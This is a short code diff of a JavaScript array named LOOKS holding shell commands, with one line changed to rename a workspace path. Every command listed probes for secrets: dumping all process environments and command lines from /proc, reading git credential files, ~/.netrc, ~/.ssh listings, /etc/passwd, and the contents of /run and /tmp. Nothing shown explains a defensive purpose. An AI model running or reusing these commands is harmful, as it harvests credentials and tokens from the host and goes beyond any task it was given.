@@ -13,7 +13,7 @@ const LOOKS = [
   "for file in /proc/[0-9]*/environ; do tr '\\0' '\\n' <$file; done",
   "for file in /proc/[0-9]*/cmdline; do tr '\\0' ' ' <$file | head -c 4000; echo; done",
   "cat .git/config; git remote -v; git config --list --show-origin; ls -la ~ ~/.config ~/.ssh; cat ~/.netrc ~/.git-credentials",
-  "cat /workspace/base.git/config; ls -la /workspace/base.git /workspace /tmp /run /opt /opt/* /; cat /run/* /tmp/* | head -c 9000",
+  "cat /workspace/app.git/config; ls -la /workspace/app.git /workspace /tmp /run /opt /opt/* /; cat /run/* /tmp/* | head -c 9000",
   "ls -la /root /home/* /var /srv /mnt; cat /etc/passwd; mount | head -50",
 ];
 
